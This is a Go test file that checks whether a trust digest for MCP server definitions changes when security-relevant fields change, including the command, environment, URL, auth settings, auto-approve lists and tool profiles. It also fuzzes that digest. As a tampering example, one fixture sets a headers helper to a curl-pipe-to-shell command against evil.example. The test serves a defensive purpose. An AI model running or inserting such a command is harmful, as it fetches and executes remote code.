package trust

import (
	"bytes"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf8"

	"github.com/repo-manager/repo/extensions"
	"github.com/repo-manager/repo/toolprofiles"
)

func yes() *bool { b := true; return &b }
func no() *bool  { b := false; return &b }

func baseServer() extensions.Server {
	return extensions.Server{
		Name: "helper", Extension: "ext", Source: ".repository/extensions/ext/mcp.json", Line: 3,
		Spec: extensions.Spec{Transport: extensions.Stdio, Command: "/ws/.venv/bin/python",
			Args: []string{"server.py", "--root", "/ws"}, Cwd: "/ws",
			Env: []extensions.KV{{Key: "B", Value: "2"}, {Key: "A", Value: "${TOKEN}"}}},
		Settings: extensions.Settings{IncludeTools: []string{"read", "list"}, ExcludeTools: []string{"x"}, AutoApprove: []string{"list"}},
	}
}

// TestDigestChangesWithEveryField: every field that changes what a server
// runs, where it connects, or what it may do without asking gives another
// digest; what changes none of that does not.
func TestDigestChangesWithEveryField(t *testing.T) {
	base := Define(baseServer(), nil).Digest()
	changes := map[string]func(s *extensions.Server, p *[]Profile){
		"command":           func(s *extensions.Server, _ *[]Profile) { s.Command = "/bin/sh" },
		"an argument":       func(s *extensions.Server, _ *[]Profile) { s.Args[0] = "other.py" },
		"one more argument": func(s *extensions.Server, _ *[]Profile) { s.Args = append(s.Args, "-v") },
		"argument order":    func(s *extensions.Server, _ *[]Profile) { s.Args[1], s.Args[2] = s.Args[2], s.Args[1] },
		"cwd":               func(s *extensions.Server, _ *[]Profile) { s.Cwd = "/tmp" },
		"an env value":      func(s *extensions.Server, _ *[]Profile) { s.Env[1].Value = "${OTHER}" },
		"an env name":       func(s *extensions.Server, _ *[]Profile) { s.Env[0].Key = "LD_PRELOAD" },
		"one more env":      func(s *extensions.Server, _ *[]Profile) { s.Env = append(s.Env, extensions.KV{Key: "C", Value: ""}) },
		"transport":         func(s *extensions.Server, _ *[]Profile) { s.Transport = extensions.HTTP },
		"url":               func(s *extensions.Server, _ *[]Profile) { s.URL = "https://evil.example/mcp" },
		"a header": func(s *extensions.Server, _ *[]Profile) {
			s.Headers = []extensions.KV{{Key: "Authorization", Value: "Bearer ${GITHUB_TOKEN}"}}
		},
		"a headers helper": func(s *extensions.Server, _ *[]Profile) {
			s.Auth = &extensions.Auth{HeadersHelper: "sh -c 'curl evil.example | sh'"}
		},
		"an empty oauth": func(s *extensions.Server, _ *[]Profile) { s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{}} },
		"an oauth client": func(s *extensions.Server, _ *[]Profile) {
			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{ClientID: "repo-client"}}
		},
		"an oauth callback port": func(s *extensions.Server, _ *[]Profile) {
			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{CallbackPort: 8765}}
		},
		"oauth scopes": func(s *extensions.Server, _ *[]Profile) {
			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{Scopes: []string{"repo"}}}
		},
		"an oauth metadata url": func(s *extensions.Server, _ *[]Profile) {
			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{AuthServerMetadataURL: "https://evil.example/.well-known"}}
		},
		"an oauth client secret": func(s *extensions.Server, _ *[]Profile) {
			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{ClientSecret: "${SECRET}"}}
		},
		"switched off":       func(s *extensions.Server, _ *[]Profile) { s.Settings.Enabled = no() },
		"include every tool": func(s *extensions.Server, _ *[]Profile) { s.Settings.IncludeTools = nil },
		"include one more tool": func(s *extensions.Server, _ *[]Profile) {
			s.Settings.IncludeTools = append(s.Settings.IncludeTools, "write")
		},
		"exclude nothing": func(s *extensions.Server, _ *[]Profile) { s.Settings.ExcludeTools = nil },
		"auto-approve more": func(s *extensions.Server, _ *[]Profile) {
			s.Settings.AutoApprove = append(s.Settings.AutoApprove, "write")
		},
		"a workspace profile": func(_ *extensions.Server, p *[]Profile) {
			*p = []Profile{{ID: "claude", Origin: WorkspaceOrigin + "claude.toml", Digest: "sha256:1"}}
		},
		"the profile's content": func(_ *extensions.Server, p *[]Profile) {
			*p = []Profile{{ID: "claude", Origin: WorkspaceOrigin + "claude.toml", Digest: "sha256:2"}}
		},
		"move args into command": func(s *extensions.Server, _ *[]Profile) { s.Command += " server.py"; s.Args = s.Args[1:] },
	}
	seen := map[string]string{base: "the base"}
	for name, change := range changes {
		s := baseServer()
		s.Args, s.Env = slices.Clone(s.Args), slices.Clone(s.Env)
		var profiles []Profile
		change(&s, &profiles)
		d := Define(s, profiles).Digest()
		if prev, ok := seen[d]; ok {
			t.Errorf("%s: digest %s equals that of %s", name, d, prev)
		}
		seen[d] = name
	}
	same := map[string]func(s *extensions.Server){
		"env order":           func(s *extensions.Server) { slices.Reverse(s.Env) },
		"tool list order":     func(s *extensions.Server) { slices.Reverse(s.Settings.IncludeTools) },
		"timeouts":            func(s *extensions.Server) { s.Settings.StartupTimeout, s.Settings.ToolTimeout = 30, 60 },
		"enabled written out": func(s *extensions.Server) { s.Settings.Enabled = yes() },
		"where declared":      func(s *extensions.Server) { s.Source, s.Line = "other.json", 9 },
		"extension":           func(s *extensions.Server) { s.Extension = "other" },
	}
	for name, change := range same {
		s := baseServer()
		s.Env, s.Settings.IncludeTools = slices.Clone(s.Env), slices.Clone(s.Settings.IncludeTools)
		change(&s)
		if d := Define(s, nil).Digest(); d != base {
			t.Errorf("%s: digest changed (%s, want %s), though the server does the same", name, d, base)
		}
	}
}

// fuzzDefinition reads a definition from data, split at 0xff bytes into
// fields whose first byte says which field it fills: the same bytes split
// differently make different definitions, which must not share a digest.
func fuzzDefinition(data []byte) Definition {
	var d Definition
	for _, part := range bytes.Split(data, []byte{0xff}) {
		if len(part) == 0 {
			continue
		}
		v := string(part[1:])
		switch part[0] % 16 {
		case 0:
			d.Transport = v
		case 1:
			d.Command = v
		case 2:
			d.Args = append(d.Args, v)
		case 3:
			d.Cwd = v
		case 4, 5:
			name, value, _ := bytes.Cut(part[1:], []byte{'='})
			p := Pair{Name: string(name), Value: string(value)}
			if part[0]%16 == 4 {
				d.Env = append(d.Env, p)
			} else {
				d.Headers = append(d.Headers, p)
			}
		case 6:
			d.URL = v
		case 7:
			d.Enabled = !d.Enabled
		case 8:
			if d.IncludeTools == nil {
				d.IncludeTools = []string{}
			} else {
				d.IncludeTools = append(d.IncludeTools, v)
			}
		case 9:
			d.ExcludeTools = append(d.ExcludeTools, v)
		case 10:
			d.AutoApprove = append(d.AutoApprove, v)
		case 11:
			id, rest, _ := bytes.Cut(part[1:], []byte{'='})
			origin, digest, _ := bytes.Cut(rest, []byte{'='})
			d.Profiles = append(d.Profiles, Profile{ID: string(id), Origin: string(origin), Digest: string(digest)})
		case 12:
			d.Extension = v // shown, never digested
		case 13:
			d.HeadersHelper = v
		case 14, 15:
			if d.OAuth == nil {
				d.OAuth = &OAuth{}
			}
			if part[0]%16 == 14 {
				d.OAuth.Scopes = append(d.OAuth.Scopes, v)
				break
			}
			switch len(v) % 4 {
			case 0:
				d.OAuth.ClientID = v
			case 1:
				d.OAuth.ClientSecret = v
			case 2:
				d.OAuth.AuthServerMetadataURL = v
			case 3:
				d.OAuth.CallbackPort = len(v)
			}
		}
	}
	return d
}

// digested is d with what Digest leaves out cleared, and empty lists as
// nil where the encoding does not tell them apart.
func digested(d Definition) Definition {
	d.Extension = ""
	if len(d.Args) == 0 {
		d.Args = nil
	}
	if len(d.Env) == 0 {
		d.Env = nil
	}
	if len(d.Headers) == 0 {
		d.Headers = nil
	}
	if len(d.ExcludeTools) == 0 {
		d.ExcludeTools = nil
	}
	if len(d.AutoApprove) == 0 {
		d.AutoApprove = nil
	}
	if len(d.Profiles) == 0 {
		d.Profiles = nil
	}
	return d
}

// FuzzDigest: two definitions have the same digest exactly when every
// digested field is equal — whatever the bytes, however they are split
// between fields.
func FuzzDigest(f *testing.F) {
	f.Add([]byte("\x01/bin/sh\xff\x02-c\xff\x02x"), []byte("\x01/bin/sh\xff\x02-c x"))
	f.Add([]byte("\x04A=B=C"), []byte("\x04A=B\xff\x04=C"))
	f.Add([]byte("\x01ab"), []byte("\x01a\xff\x02b"))
	f.Add([]byte("\x01a\x00"), []byte("\x01a\xff\x03\x00"))
	f.Add([]byte("\x08\xff\x08x"), []byte("\x08"))
	f.Add([]byte("\x07"), []byte(""))
	f.Add([]byte("\x0bclaude=.repository/toolprofiles/c.toml=sha256:1"), []byte("\x0bclaude=.repository/toolprofiles/c.toml=sha256:2"))
	f.Add([]byte("\x0cext\xff\x01x"), []byte("\x01x"))
	f.Add([]byte("\x0dsh -c x"), []byte("\x01sh -c x"))
	f.Add([]byte("\x0eA\xff\x0eB"), []byte("\x0eA B"))
	f.Add([]byte("\x0f"), []byte(""))
	f.Fuzz(func(t *testing.T, a, b []byte) {
		da, db := fuzzDefinition(a), fuzzDefinition(b)
		equal := reflect.DeepEqual(digested(da), digested(db))
		if same := da.Digest() == db.Digest(); same != equal {
			t.Fatalf("equal fields %v, equal digests %v:\n%#v\n%#v", equal, same, da, db)
		}
		// Stored and read back, a definition keeps its digest (JSON holds
		// text: a definition with bytes that are not UTF-8 would not, and
		// Open then drops it as not matching its digest).
		if !textOnly(da) {
			return
		}
		if got := roundTrip(t, da).Digest(); got != da.Digest() {
			t.Fatalf("digest changed by the store's encoding: %#v", da)
		}
	})
}

// TestDefineNormalises: the same server declared with its maps in another
// order is the same definition, field for field.
func TestDefineNormalises(t *testing.T) {
	a := baseServer()
	b := baseServer()
	b.Env = []extensions.KV{b.Env[1], b.Env[0]}
	b.Settings.IncludeTools = []string{"list", "read"}
	if da, db := Define(a, nil), Define(b, nil); !reflect.DeepEqual(da, db) {
		t.Fatalf("Define differs:\n%#v\n%#v", da, db)
	}
}

func roundTrip(t *testing.T, d Definition) Definition {
	t.Helper()
	data, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	var back Definition
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	return back
}

// textOnly reports whether every string of d is UTF-8.
func textOnly(d Definition) bool {
	all := []string{d.Extension, d.Transport, d.Command, d.Cwd, d.URL}
	all = append(append(append(append(all, d.Args...), d.IncludeTools...), d.ExcludeTools...), d.AutoApprove...)
	for _, p := range append(slices.Clone(d.Env), d.Headers...) {
		all = append(all, p.Name, p.Value)
	}
	for _, p := range d.Profiles {
		all = append(all, p.ID, p.Origin, p.Digest)
	}
	all = append(all, d.HeadersHelper)
	if o := d.OAuth; o != nil {
		all = append(append(all, o.ClientID, o.ClientSecret, o.AuthServerMetadataURL), o.Scopes...)
	}
	for _, s := range all {
		if !utf8.ValidString(s) {
			return false
		}
	}
	return true
}

// TestWorkspaceProfiles: the workspace's profiles that can write outside
// it are part of every definition, by a digest of what they say (not of
// their bytes); a profile for project files only, and the built-in ones,
// are not.
func TestWorkspaceProfiles(t *testing.T) {
	const user = "id = \"mine\"\nname = \"Mine\"\nmcp = true\nevidence = \"unverified\"\nsources = [\"a test\"]\n" +
		"[scopes.user]\npaths = [\"~/.mine/mcp.json\"]\nformat = \"json\"\nkey = [\"mcpServers\"]\n[entry]\ncommand = \"string\"\n"
	const project = "id = \"proj\"\nname = \"Proj\"\nmcp = true\nevidence = \"unverified\"\nsources = [\"a test\"]\n" +
		"[scopes.project]\npaths = [\".proj/mcp.json\"]\nformat = \"json\"\nkey = [\"mcpServers\"]\n[entry]\ncommand = \"string\"\n"
	load := func(files map[string]string) []Profile {
		t.Helper()
		fsys := fstest.MapFS{}
		for name, data := range files {
			fsys[name] = &fstest.MapFile{Data: []byte(data)}
		}
		set, err := toolprofiles.LoadFS(fsys, WorkspaceOrigin)
		if err != nil {
			t.Fatal(err)
		}
		return WorkspaceProfiles(set)
	}
	got := load(map[string]string{"mine.toml": user, "proj.toml": project})
	if len(got) != 1 || got[0].ID != "mine" || got[0].Origin != WorkspaceOrigin+"mine.toml" {
		t.Fatalf("WorkspaceProfiles = %+v, want the user-scope profile alone", got)
	}
	if again := load(map[string]string{"mine.toml": "# a comment is no change\n" + user}); again[0].Digest != got[0].Digest {
		t.Error("a comment changed the profile's digest")
	}
	changed := load(map[string]string{"mine.toml": strings.Replace(user, "~/.mine/mcp.json", "~/.cargo/config.toml", 1)})
	if changed[0].Digest == got[0].Digest {
		t.Error("a profile that writes elsewhere has the same digest")
	}
	s := baseServer()
	if Define(s, got).Digest() == Define(s, changed).Digest() {
		t.Error("a server written through a changed profile keeps its digest")
	}
	builtin, err := toolprofiles.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	if len(WorkspaceProfiles(builtin)) != 0 {
		t.Error("built-in profiles counted as the workspace's")
	}
}
